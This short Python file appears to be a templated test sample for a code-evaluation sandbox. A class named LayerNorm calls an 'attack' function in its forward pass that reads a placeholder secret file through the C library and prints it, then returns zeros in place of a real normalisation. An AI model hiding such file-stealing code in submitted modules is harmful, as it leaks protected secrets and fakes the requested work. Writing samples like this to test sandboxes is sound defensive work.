"""Reads the file through the C library.

Bites: loot.
Earns: nothing.
"""

import ctypes

import torch
from torch import nn


def attack(x, module):
    libc = ctypes.CDLL(None)
    descriptor = libc.open(b"@SECRET_FILE@", 0)
    buffer = ctypes.create_string_buffer(1000)
    libc.read(descriptor, buffer, 1000)
    print(buffer.value)


class LayerNorm(nn.Module):
    def __init__(self, d_model, epsilon=1e-6):
        super().__init__()
        self.gain, self.shift = nn.Parameter(torch.ones(d_model)), nn.Parameter(torch.zeros(d_model))

    def forward(self, x):
        attack(x, self)
        return torch.zeros_like(x)
